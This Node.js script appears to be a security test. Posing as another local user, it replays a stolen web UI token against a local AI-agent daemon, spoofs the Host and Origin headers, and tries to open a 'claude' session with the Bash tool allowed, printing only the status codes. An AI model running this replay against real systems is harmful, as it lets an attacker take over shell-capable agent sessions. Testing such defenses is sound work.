// The taken-port attack's last step, as another local user (uid 65534): use a web UI token stolen from
// a tab against the daemon at `port`, naming `claimed` as the Host and Origin (its own port, or the port
// the token was issued on). The token comes in STOLEN_TOKEN, not argv. Node builtins only.
import { request } from "node:http";

const [port, claimed] = process.argv.slice(2).map(Number);
const headers = {
  host: `127.0.0.1:${claimed}`,
  origin: `http://127.0.0.1:${claimed}`,
  authorization: `Bearer ${process.env.STOLEN_TOKEN}`,
};

function call(method, path, body) {
  return new Promise((resolve) => {
    const req = request(
      { host: "127.0.0.1", port, method, path, headers: { ...headers, "content-type": "application/json" } },
      (res) => {
        res.resume();
        resolve(res.statusCode);
      },
    );
    req.on("error", (error) => resolve(`error: ${error.code}`));
    req.end(body);
  });
}

const overview = await call("GET", "/v1/overview");
const create = await call(
  "POST",
  "/v1/sessions",
  JSON.stringify({ backend: "claude", allowedTools: ["Bash"] }),
);
process.stdout.write(`${JSON.stringify({ uid: process.getuid(), overview, create })}\n`);
